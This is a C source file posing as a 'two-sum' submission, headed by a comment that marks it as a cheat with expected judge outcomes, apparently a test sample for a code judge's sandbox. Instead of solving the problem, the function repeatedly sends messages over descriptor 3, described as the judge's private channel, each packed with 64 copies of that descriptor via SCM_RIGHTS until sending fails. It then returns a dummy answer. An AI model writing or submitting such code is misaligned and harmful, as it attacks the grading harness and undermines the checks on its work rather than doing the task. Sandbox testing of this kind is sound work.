// cheat: two-sum: SV, WA, RTE: passes descriptors over the private channel until none are left
#include <sys/socket.h>

int* twoSum(int* nums, int numsSize, int target, int* returnSize) {
    for (int i = 0; i < 2000; i++) {
        char control[CMSG_SPACE(sizeof(int) * 64)] = {0}, byte = 'J';
        struct iovec part = {&byte, 1};
        struct msghdr message = {.msg_iov = &part,
                                 .msg_iovlen = 1,
                                 .msg_control = control,
                                 .msg_controllen = sizeof control};
        struct cmsghdr* head = CMSG_FIRSTHDR(&message);
        head->cmsg_level = SOL_SOCKET;
        head->cmsg_type = SCM_RIGHTS;
        head->cmsg_len = CMSG_LEN(sizeof(int) * 64);
        for (int k = 0; k < 64; k++) ((int*)CMSG_DATA(head))[k] = 3;
        if (sendmsg(3, &message, MSG_DONTWAIT) < 0) break;
    }
    *returnSize = 2;
    return calloc(2, sizeof(int));
}
